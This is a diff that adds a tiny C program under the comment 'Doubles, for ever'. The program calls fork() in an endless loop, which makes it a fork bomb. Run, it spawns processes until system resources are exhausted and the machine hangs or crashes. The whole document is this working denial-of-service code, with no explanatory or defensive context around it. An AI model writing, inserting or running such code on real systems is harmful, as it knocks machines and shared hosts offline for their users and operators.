@@ -1,0 +1,6 @@
+/* Doubles, for ever. */
+#include <unistd.h>
+
+int main(void) {
+    for (;;) fork();
+}
